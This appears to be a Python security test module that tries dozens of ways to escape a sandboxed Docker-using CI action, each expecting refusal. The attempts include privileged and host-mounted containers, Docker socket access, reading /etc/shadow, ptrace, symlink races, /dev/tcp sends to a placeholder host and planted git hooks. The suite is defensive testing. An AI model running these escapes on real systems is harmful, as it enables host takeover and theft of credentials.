"""Getting out of the container, or into the host by way of the engine."""

from tests.security.attack import Attack, Seen


def _kept(attack: Attack, seen: Seen) -> list[str]:
    """The names that everybody builds from stand for the images that they stood for."""
    before, after = seen.around.images
    return [name for name, image in before.items() if after.get(name, image) != image]


_SYSCALLS = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def call(name, number, *arguments):
    ctypes.set_errno(0)
    words = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    found = libc.syscall(number, *words)
    error = ctypes.get_errno()
    if found == -1:
        print(name, 'refused:', os.strerror(error), flush=True)
    return found, error
"""

ATTACKS = (
    Attack(
        "engine-socket-by-curl",
        "speaks to the engine's socket with curl",
        """for path in /var/run/docker.sock /run/docker.sock /proc/1/root/run/docker.sock; do
            curl --silent --show-error --max-time 5 --unix-socket $path http://d/version && breach
        done""",
        ("other user", "system call filter"),
        evidence="curl: \\(7\\)",
    ),
    Attack(
        "engine-socket-by-python",
        "speaks to the engine's socket from Python, also through another path to it",
        """
import socket
# As long as the name of the broker's socket: the filter of system calls lets such names through.
link = 'd' * len(os.environ['OI_DEPLOY_BROKER'])
os.symlink('/var/run/docker.sock', link)
for path in ('/var/run/docker.sock', link, '/github/workspace/../../var/run/docker.sock'):
    fails(socket.socket(socket.AF_UNIX).connect, path)
os.unlink(link)
# Its own mode: where this succeeds, nothing has changed.
fails(os.chmod, '/var/run/docker.sock', os.stat('/var/run/docker.sock').st_mode & 0o777)
""",
        ("other user",),
        language="python",
        evidence="refused: Permission denied",
    ),
    Attack(
        "run-with-host-files",
        "starts a container that has the host's files",
        """for flag in -v=/:/host "-v /:/host" --volume=/:/host "--volume /:/host" \\
            "--mount type=bind,src=/,dst=/host" "--volumes-from $(hostname)" --tmpfs=/x \\
            "-v /var/run/docker.sock:/s" "-iv /:/host" "--env-file /etc/shadow"
        do passes docker run --rm $flag @BASE@ touch "/host@OUTSIDE@/@ID@"; done
        passes docker container run -v /:/host @BASE@ true""",
        ("flag tables",),
        refused="docker.run.flag",
    ),
    Attack(
        "run-privileged",
        "starts a container with all rights",
        """for flag in --privileged --privileged=true "--privileged --rm" "--rm --privileged=1"
        do passes docker run $flag @BASE@ true; done""",
        ("flag tables",),
        refused="docker.run.flag",
    ),
    Attack(
        "run-in-host-namespaces",
        "starts a container in namespaces of the host or of another container",
        """for flag in --pid=host "--pid host" --ipc=host --uts=host --userns=host \\
            --cgroupns=host \\
            "--pid container:$(hostname)" "--cgroup-parent /"
        do passes docker run $flag @BASE@ true; done""",
        ("flag tables",),
        refused="docker.run.flag",
    ),
    Attack(
        "run-with-network",
        "starts a container with a network: the host's, a container's, or the default one",
        """cd "$(mktemp -d -p .)"
        printf 'FROM @BASE@\\nCMD ["bash", "-c", "%s"]\\n' \\
            'echo @ID@ >/dev/tcp/@GATEWAY@/@TCP@' > Dockerfile
        docker build -q -t @ID@:1 . && echo built
        for flag in --network=host "--net host" "--network container:$(hostname)" --net=bridge ""
        do passes timeout 20 docker run --rm $flag @ID@:1; done""",
        ("smoke test limits",),
        refused="docker.run.network",
        evidence="Network is unreachable",
    ),
    Attack(
        "run-with-device",
        "starts a container that has the host's devices",
        """for flag in --device=/dev/vda "--device /dev/sda" "--device-cgroup-rule a" \\
            "--gpus all" \\
            --sysctl=kernel.core_pattern=x --runtime=runc
        do passes docker run $flag @BASE@ true; done""",
        ("flag tables",),
        refused="docker.run.flag",
    ),
    Attack(
        "run-with-capabilities",
        "starts a container with more capabilities or without its filters",
        """for flag in --cap-add=ALL "--cap-add SYS_ADMIN" "--security-opt seccomp=unconfined" \\
            --security-opt=apparmor=unconfined "--user 0" -u=0
        do passes docker run $flag @BASE@ true; done""",
        ("flag tables",),
        refused="docker.run.flag",
    ),
    Attack(
        "run-a-foreign-image",
        "starts an image that this run did not build: the action's own, or one of the host",
        """passes docker run --rm @ACTION@ true
        passes docker run --rm @BASE@ true
        passes docker run --rm @REGISTRY@/other/private:1 true""",
        ("images of the run",),
        refused="docker.run.image",
    ),
    Attack(
        "run-and-keep",
        "starts a container that stays after the run",
        """cd "$(mktemp -d -p .)"
        printf 'FROM @BASE@\\nCMD ["sleep", "4000"]\\n' > Dockerfile
        docker build -q -t @ID@:1 . && echo built
        for flag in -d --detach --restart=always "-d --name @ID@"
        do passes timeout 20 docker run $flag @ID@:1; done""",
        ("flag tables",),
        refused="docker.run.flag",
        evidence="built",
    ),
    Attack(
        "build-on-host-network",
        "builds with the host's network, or with names of hosts that it chooses",
        """cd "$(mktemp -d -p .)"; printf 'FROM scratch\\nCOPY Dockerfile /\\n' > Dockerfile
        for flag in --network=host "--network host" "--network container:$(hostname)" \\
            --add-host=a:1.2.3.4 --security-opt=seccomp=unconfined --cgroup-parent=/ \\
            "--allow network.host"
        do passes docker build -t @ID@:1 $flag .; done""",
        ("flag tables",),
        refused="docker.build.flag",
    ),
    Attack(
        "build-with-host-secrets",
        "builds with files and agents of the host",
        """cd "$(mktemp -d -p .)"; printf 'FROM scratch\\nCOPY Dockerfile /\\n' > Dockerfile
        for flag in --secret=id=x,src=/etc/shadow "--secret id=x,src=/etc/shadow" --ssh=default \\
            --build-context=host=/ "--build-context host=/etc"
        do passes docker build -t @ID@:1 $flag .; done""",
        ("flag tables",),
        refused="docker.build.flag",
    ),
    Attack(
        "build-writes-files",
        "has docker write files with root's rights",
        """cd "$(mktemp -d -p .)"; printf 'FROM scratch\\nCOPY Dockerfile /\\n' > Dockerfile
        for flag in --iidfile=/tmp/@ID@ --metadata-file=/tmp/@ID@ "-o /tmp" \\
            --output=type=local,dest=/ \\
            "--cache-to type=local,dest=/tmp/@ID@"
        do passes docker build -t @ID@:1 $flag .; done
        [ ! -e /tmp/@ID@ ] || breach file""",
        ("flag tables",),
        refused="docker.build.flag",
    ),
    Attack(
        "dockerfile-adds-url",
        "has the engine fetch an address that only the host reaches",
        """cd "$(mktemp -d -p .)"
        url=http://@GATEWAY@:@TCP@/@ID@
        for line in "ADD $url /x" "add --chown=0 $url /" "ADD [\\"$url\\", \\"/x\\"]" \\
            "ONBUILD ADD $url /" "ENV U=$url\\nADD \\$U /x" "ADD \\\\\\\\\\n $url /x"
        do printf "FROM scratch\\n$line\\n" > Dockerfile; passes docker build -t @ID@:1 .; done""",
        ("Dockerfile check",),
        refused="docker.build.add",
    ),
    Attack(
        "dockerfile-from-forbidden-repository",
        "builds from a repository of the registry that the policy does not name",
        """cd "$(mktemp -d -p .)"; other=@REGISTRY@/other/private:1
        try() { printf '%b\\n' "$@" > Dockerfile; passes docker build -t @ID@:1 .; }
        try "FROM $other"
        try "FROM scratch AS a" "FROM $other"
        try "ARG B=$other" 'FROM ${B}'
        printf 'ARG B=@BASE@\\nFROM $B\\n' > Dockerfile
        passes docker build -t @ID@:1 --build-arg B=$other .
        try "FROM \\\\" "  $other"
        try "# escape=\\x60" "FROM scratch" "RUN x\\x60" "FROM $other"
        try "from --platform=linux/amd64 $other as x\"""",
        ("Dockerfile check",),
        refused="docker.build.*",
    ),
    Attack(
        "dockerfile-copies-from-foreign-image",
        "copies files out of an image that it may not pull",
        """cd "$(mktemp -d -p .)"; other=@REGISTRY@/other/private:1
        try() { printf '%b\\n' "$@" > Dockerfile; passes docker build -t @ID@:1 .; }
        try "FROM scratch" "COPY --from=$other / /"
        try "FROM scratch" "COPY --chown=0 --from=$other / /"
        try "FROM scratch AS x" "FROM scratch" "COPY --from=$other / /"
        try "FROM scratch" "copy --from=$other \\\\" "/ /" """,
        ("Dockerfile check",),
        refused="docker.build.from",
    ),
    Attack(
        "context-outside-the-workspace",
        "sends folders of the container to the engine as the build context",
        """printf 'FROM scratch\\nCOPY bin /\\n' > Dockerfile.@ID@
        ln -s /opt/oi-deploy link-@ID@
        for context in /opt/oi-deploy ../../opt/oi-deploy link-@ID@ link-@ID@/../oi-deploy \\
            /proc/self/root/opt/oi-deploy "$PWD/../../opt/oi-deploy" / .. /proc/1/root /etc \\
            http://@GATEWAY@:@TCP@/@ID@ git@@GATEWAY@:x.git
        do passes docker build -t @ID@:1 -f Dockerfile.@ID@ "$context"; done
        rm link-@ID@ Dockerfile.@ID@""",
        ("workspace paths",),
        refused="docker.build.context",
    ),
    Attack(
        "dockerfile-link",
        "gives a link to a file outside as the Dockerfile, so that its lines are printed",
        """mkdir -p @ID@ && cd @ID@ && ln -sf /etc/passwd Dockerfile
        docker build . 2>&1 | tee out.txt; grep -q 'root:' out.txt && breach
        docker build -f Dockerfile . 2>&1 | tee out.txt; grep -q 'root:' out.txt && breach
        rm -f Dockerfile""",
        ("links stay links",),
        refused="docker.build.file",
    ),
    Attack(
        "dockerfile-outside",
        "names a file outside the workspace as the Dockerfile, so that its lines are printed",
        """mkdir -p @ID@ && cd @ID@ && ln -sf /etc/passwd other
        for file in /etc/passwd other ../@ID@/other ../../../../etc/passwd /proc/self/environ
        do docker build -f $file . 2>&1 | tee out.txt; grep -q 'root:' out.txt && breach; done
        rm -f other""",
        ("workspace paths",),
        refused="docker.build.file",
    ),
    Attack(
        "links-in-the-context",
        "puts links to files of root into the context, so that the image gets what they point to",
        """mkdir -p @ID@ && cd @ID@ && ln -sf /etc/shadow shadow
        printf 'FROM @BASE@\\nCOPY . /x/\\nRUN %s\\n' \\
            '[ -L /x/shadow ] && echo links || echo content' > Dockerfile
        docker build -t @ID@:1 . >../@ID@.txt 2>&1
        tail -6 ../@ID@.txt; grep -qx content ../@ID@.txt && breach
        rm -rf shadow ../@ID@.txt""",
        ("the user's rights to files", "links stay links"),
        evidence="^links$",
    ),
    Attack(
        "context-race",
        "swaps the context for a link to a folder of root while docker builds, fifty times",
        """
import ctypes, glob, subprocess, threading
folder = (glob.glob('/tmp/oi-deploy-broker-*') or ['/root'])[0] + '/docker'
os.makedirs('@ID@/a'); os.symlink(folder, '@ID@/b')
with open('@ID@/Dockerfile', 'w') as file:
    file.write('FROM scratch\\nCOPY config.json /\\n')
with open('@ID@/a/config.json', 'w') as file:
    file.write('mine')
libc, stop = ctypes.CDLL(None), threading.Event()
def swap():
    while not stop.is_set():
        libc.renameat2(-100, b'@ID@/a', -100, b'@ID@/b', 2)
thread = threading.Thread(target=swap); thread.start()
endings = {}
def docker(*words):
    done = subprocess.run(['docker', *words], capture_output=True, text=True)
    return done.returncode, (done.stdout + done.stderr).strip()
for number in range(50):
    code, text = docker('build', '-q', '-t', '@ID@:1', '-f', '@ID@/Dockerfile', '@ID@/a')
    if code == 0:
        text = 'built ' + docker('image', 'inspect', '-f', '{{.Size}}', '@ID@:1')[1]
        if text != 'built 4':
            breach(text)
    endings[text[:100]] = endings.get(text[:100], 0) + 1
stop.set(); thread.join()
print(endings)
""",
        ("the user's rights to files",),
        language="python",
        evidence="refused",
    ),
    Attack(
        "hard-links",
        "makes hard links to files of root in the workspace, to be handed over at the end",
        """for file in /etc/shadow /action/entrypoint.py /opt/oi-deploy/bin/docker; do
            ln "$file" "$HOME/$(basename $file)" && breach "$file"; done
        ln root-only.txt @ID@.txt && breach root-only.txt; rm -f @ID@.txt""",
        ("other user",),
        evidence="ermitted|denied",
    ),
    Attack(
        "setuid-programs",
        "starts a setuid program and looks who it runs as",
        """
import glob, stat, subprocess, time
programs = [path for folder in ('/usr/bin', '/usr/sbin', '/usr/lib', '/bin')
            for path in glob.glob(folder + '/*')
            if os.path.isfile(path) and os.stat(path).st_mode & stat.S_ISUID]
print('setuid programs', len(programs))
for program in programs:
    child = subprocess.Popen([program], stdin=subprocess.PIPE, stdout=-3, stderr=-3)
    for _ in range(50):
        try:
            fields = open(f'/proc/{child.pid}/status').read().split('Uid:')[1].split()
        except OSError:
            break
        if fields[1] == '0':
            breach(program)
            break
        if child.poll() is not None:
            break
        time.sleep(0.002)
    child.kill(); child.wait()
status = open('/proc/self/status').read()
'NoNewPrivs:\\t1' in status or breach('new privileges are possible')
""",
        ("no new privileges",),
        language="python",
        evidence=r"setuid programs [1-9]",
    ),
    Attack(
        "become-root",
        "tries every program and call that changes the user",
        """sudo -n true && breach sudo
        su root -c true </dev/null && breach su
        setpriv --reuid=0 true && breach setpriv
        chroot / true && breach chroot
        python3 -c 'import os; os.setuid(0)' && breach setuid
        python3 -c 'import os; os.setgroups([0])' && breach setgroups
        grep -E '^Cap(Prm|Eff|Bnd|Inh|Amb)' /proc/self/status | grep -v 0000000000000000 &&
            breach capabilities""",
        ("other user",),
        evidence="Operation not permitted",
    ),
    Attack(
        "kill-the-action",
        "sends signals to the action, the broker and its own parent",
        """
for pid in filter(str.isdigit, os.listdir('/proc')):
    if int(pid) != os.getpid():
        fails(os.kill, int(pid), 0)
""",
        ("other user",),
        language="python",
        evidence="refused: Operation not permitted",
    ),
    Attack(
        "change-the-action",
        "changes the action's own program, its packages and its tools",
        """for file in /action/entrypoint.py /action/src/oi_deploy/run.py \\
            /opt/oi-deploy/bin/docker /opt/venv/bin/python /etc/passwd /usr/bin/git; do
            : >> "$file" && breach "$file"; done
        for folder in /action/src /opt/venv/lib/python3.11/site-packages /usr/bin /etc /run; do
            touch "$folder/@ID@" && breach "$folder"; done""",
        ("other user",),
        evidence="Permission denied",
    ),
    Attack(
        "make-a-device",
        "makes a device file for the host's disk",
        """mknod @ID@.disk b 8 0 && breach disk
        mknod @ID@.memory c 1 1 && breach memory
        rm -f @ID@.disk @ID@.memory""",
        ("other user",),
        evidence="Operation not permitted",
    ),
    Attack(
        "ptrace",
        "takes over another process with ptrace",
        _SYSCALLS
        + """
call('attach to 1', 101, 16, 1, 0, 0)[0] == -1 or breach('attach')
child = os.fork()
if child == 0:
    found, _ = call('trace me', 101, 0, 0, 0, 0)
    os._exit(0 if found == -1 else 1)
os.waitpid(child, 0)[1] == 0 or breach('trace')
""",
        ("system call filter",),
        language="python",
        evidence="trace me refused: Operation not permitted",
    ),
    Attack(
        "read-other-memory",
        "reads and writes another process's memory with process_vm_readv and pidfd_getfd",
        _SYSCALLS
        + """
import signal
class Part(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('size', ctypes.c_size_t)]
buffer = ctypes.create_string_buffer(16)
word = ctypes.create_string_buffer(b'own memory......')
local, remote = Part(ctypes.addressof(buffer), 16), Part(ctypes.addressof(word), 16)
child = os.fork()
if child == 0:
    signal.pause()
call('readv', 310, child, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)[0] == -1 or breach()
call('writev', 311, child, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)[0] == -1 or breach()
call('kcmp', 312, child, os.getpid(), 0, 0, 0)
os.kill(child, 9); os.waitpid(child, 0)
""",
        ("system call filter", "container"),
        language="python",
        evidence="readv refused: Operation not permitted",
    ),
    Attack(
        "io-uring",
        "uses io_uring, whose requests no filter sees",
        _SYSCALLS
        + """
parameters = ctypes.create_string_buffer(120)
call('io_uring', 425, 4, parameters)[0] == -1 or breach()
""",
        ("system call filter",),
        language="python",
        evidence="io_uring refused: (Operation not permitted|Function not implemented)",
    ),
    Attack(
        "kernel-interfaces",
        "uses keyrings, bpf, perf, userfaultfd and file handles, where kernels have had holes",
        _SYSCALLS
        + """
for name, number, *arguments in (
    ('keyctl', 250, 0, -3, 1), ('add_key', 248, b'user', b'x', b'y', 1, -3),
    ('bpf', 321, 0, 0, 0), ('perf', 298, 0, 0, -1, -1, 0), ('userfaultfd', 323, 1),
    ('open_by_handle_at', 304, -100, 0, 0), ('fanotify', 300, 0, 0),
):
    found, error = call(name, number, *arguments)
    if found != -1 or error not in (1, 38):  # EPERM, ENOSYS
        breach(name, found, error)
""",
        ("system call filter", "container"),
        language="python",
        evidence="keyctl refused",
    ),
    Attack(
        "namespaces",
        "makes or enters namespaces, where it would be root",
        """for flags in -U -Ur -n -m -p --fork\\ -p -i -u; do
            unshare $flags true && breach "$flags"; done
        for kind in net mnt pid; do nsenter --target 1 --$kind true && breach $kind; done""",
        ("system call filter", "container"),
        evidence="unshare failed: Operation not permitted",
    ),
    Attack(
        "mounts",
        "mounts the host's disk, a tmpfs, an overlay; binds a file over another",
        """mount -t tmpfs none /mnt && breach tmpfs
        mount --bind / /mnt && breach bind
        mount -o remount,rw / && breach remount
        mount -t proc proc /mnt && breach proc""",
        ("other user", "system call filter", "container"),
        evidence="must be superuser|permission denied|not permitted",
    ),
    Attack(
        "kernel-files",
        "writes to the kernel's files that act on the whole host",
        """for file in /proc/sysrq-trigger /proc/sys/kernel/core_pattern \\
            /proc/sys/kernel/modprobe /sys/fs/cgroup/release_agent \\
            /sys/kernel/uevent_helper /sys/power/state; do
            [ -w "$file" ] && breach "$file"; : >> "$file" && breach "$file"; done""",
        ("other user", "container"),
        evidence="Permission denied|Read-only",
    ),
    Attack(
        "git-runs-a-program",
        "has the repository's configuration name a program that the action's own git starts",
        """git config core.fsmonitor "$PWD/.git/@ID@"
        printf '#!/bin/sh\\nid -u >> @ID@.who\\n' > .git/@ID@; chmod +x .git/@ID@""",
        ("git in the sandbox",),
        # By now the action has asked git for the facts of this turn.
        later="""git config --unset core.fsmonitor
        cat @ID@.who; grep -qx 0 @ID@.who && breach root
        rm -f @ID@.who .git/@ID@""",
        evidence=r"^\d+$",
    ),
    Attack(
        "overwrite-a-base-image",
        "gives a name that others build from to its own image",
        """cd "$(mktemp -d -p .)"; printf 'FROM scratch\\nCOPY Dockerfile /\\n' > Dockerfile
        docker build -q -t @ID@:1 . && echo built
        for name in @TAKEN@:1 docker.io/library/@TAKEN@:1 index.docker.io/@TAKEN@:1; do
            passes docker build -t $name .
            passes docker tag @ID@:1 $name
        done""",
        ("local names",),
        refused="docker.*",
        evidence="^built$",
        outside=_kept,
    ),
    Attack(
        "leave-a-name-behind",
        "gives names without a registry that stay in the engine when the run is over",
        """cd "$(mktemp -d -p .)"; printf 'FROM scratch\\nCOPY Dockerfile /\\n' > Dockerfile
        docker build -q -t @ID@:built . && docker build -q -t @ID@:again . && echo built
        docker tag @ID@:built @ID@:built
        docker tag @ID@:again docker.io/library/@ID@:again
        docker tag "$(docker images -q @ID@:built)" @ID@:by-id
        docker tag @ID@:again @ID@:other && docker tag @ID@:other @ID@:third""",
        ("local names",),
        evidence="^built$",
    ),
    Attack(
        "leave-a-name-and-go",
        "builds, and is gone before it has heard that the build is over",
        """
import json, socket, subprocess, time
dockerfile = b'FROM @BASE@\\nRUN head -c 150000 /dev/zero | tr \\\\000 x | fold -w 200\\n'
client = socket.socket(socket.AF_UNIX)
client.connect(os.environ['OI_DEPLOY_BROKER'])
argv = ['build', '--no-cache', '-t', '@ID@:1', '-']
header = {'tool': 'docker', 'argv': argv, 'cwd': os.getcwd(), 'stdin': len(dockerfile)}
client.sendall(json.dumps(header).encode() + b'\\n' + dockerfile)
for turn in range(1, 601):
    found = subprocess.run(['docker', 'images', '-q', '@ID@'], capture_output=True).stdout
    if found.strip():
        break
    if not turn % 20:  # a client that reads nothing for half a minute loses its build
        try:
            client.recv(65536, socket.MSG_DONTWAIT)
        except BlockingIOError:
            pass
    time.sleep(0.1)
print('built', found)
client.close()
""",
        ("local names",),
        language="python",
        evidence="^built b'[0-9a-f]",
    ),
    Attack(
        "git-program-for-later",
        "leaves programs in .git that the runner's own git starts after the run, on the host",
        """printf '#!/bin/sh\\n[ -d /github/workspace ] || touch @ID@.ran\\ncat\\n' > .git/@ID@
        chmod +x .git/@ID@; git config core.fsmonitor .git/@ID@
        for hook in post-checkout post-index-change reference-transaction; do
            cp .git/@ID@ .git/hooks/$hook; done
        printf '* filter=x\\n' > .git/info/attributes
        git config filter.x.clean .git/@ID@; git config filter.x.smudge .git/@ID@
        git config --get core.fsmonitor""",
        ("git's own files",),
        evidence="^.git/git-program-for-later$",
    ),
)
